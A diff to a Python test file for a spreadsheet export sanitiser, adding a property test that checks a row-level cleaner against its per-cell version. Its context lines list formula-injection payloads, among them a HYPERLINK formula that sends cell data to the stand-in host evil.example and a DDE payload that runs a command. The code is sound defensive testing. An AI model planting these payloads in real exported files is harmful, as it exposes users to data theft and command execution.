@@ -7,9 +7,11 @@ import re
 import zipfile
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from kaa.core.tabular import csv_writer, safe_cell, xlsx_bytes
+from kaa.core.tabular import csv_writer, safe_cell, safe_row, xlsx_bytes
 from kaa.register.export import write_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
@@ -79,3 +81,13 @@ def test_no_csv_or_xlsx_is_written_outside_the_helper():
                  if path.name != "tabular.py" and str(path.relative_to(root)) not in OWN_CSV_WRITERS
                  and pattern.search(path.read_text(encoding="utf-8"))]
     assert offenders == []
+
+
+# Cells built from the characters that matter (formula starts, spaces, line breaks, control characters).
+CELL_TEXT = st.text(alphabet=st.sampled_from(list("=+-@ \t\r\nab1;\x00\x1f\x7f\ufffe")), max_size=6)
+
+
+@given(st.lists(st.one_of(CELL_TEXT, st.none(), st.integers(), st.dates()), max_size=8))
+def test_a_row_is_made_safe_exactly_as_its_cells_one_by_one(row):
+    """``safe_row`` checks a whole row at once; it must give what ``safe_cell`` gives for each cell."""
+    assert safe_row(row) == [safe_cell(value) for value in row]
